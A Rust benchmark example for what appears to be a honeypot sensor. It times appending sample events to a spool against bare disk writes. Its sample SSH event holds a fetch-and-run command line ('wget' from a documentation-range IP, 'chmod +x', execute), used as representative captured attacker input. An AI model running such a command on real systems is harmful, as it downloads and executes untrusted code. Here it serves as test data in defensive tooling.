//! How fast events are appended to a spool, one thread, and what a bare write of the same records to the same disk takes.
//!
//! `cargo run --release -p sensor --example spool_rate -- DIRECTORY [EVENTS]` prints one line of JSON.

use model::{Detail, Event, Protocol, SessionId, Timestamp, wire};
use sensor::spool::{Spool, SpoolConfig};
use std::fs::File;
use std::io::Write;
use std::path::PathBuf;
use std::time::Instant;

fn main() -> Result<(), Box<dyn std::error::Error>> {
    let mut arguments = std::env::args().skip(1);
    let directory = PathBuf::from(arguments.next().ok_or("usage: spool_rate DIRECTORY [EVENTS]")?);
    let events: u64 = arguments.next().map_or(Ok(500_000), |text| text.parse())?;
    let event = Event {
        time: Timestamp(1_774_138_481_244_717),
        session: SessionId(uuid::Uuid::now_v7()),
        source: [198, 51, 100, 23].into(),
        protocol: Protocol::Ssh,
        detail: Detail::Command { line: "cd /tmp; wget http://192.0.2.7/x; chmod +x x; ./x".into() },
    };
    let spool = Spool::open(SpoolConfig::new(directory.join("spool")))?;
    let began = Instant::now();
    for _ in 0..events {
        spool.append(&event);
    }
    let appended = began.elapsed();
    let began = Instant::now();
    let mut bytes = 0;
    while let Some(batch) = spool.next_batch(1 << 20, 5_000)? {
        bytes += batch.records.len();
        spool.acknowledge(batch.last);
    }
    let read = began.elapsed();
    spool.close();

    let mut record = Vec::new();
    wire::encode(1, &wire::encode_event(&event), &mut record);
    let mut file = File::create(directory.join("bare"))?;
    let began = Instant::now();
    for _ in 0..events {
        file.write_all(&record)?;
    }
    let bare = began.elapsed();
    std::fs::remove_file(directory.join("bare"))?;
    let rate = |seconds: f64| (events as f64 / seconds) as u64;
    println!(
        "{{\"events\":{events},\"record_bytes\":{},\"appends_per_second\":{},\"bare_writes_per_second\":{},\"reads_per_second\":{},\"read_bytes\":{bytes}}}",
        record.len(),
        rate(appended.as_secs_f64()),
        rate(bare.as_secs_f64()),
        rate(read.as_secs_f64())
    );
    Ok(())
}
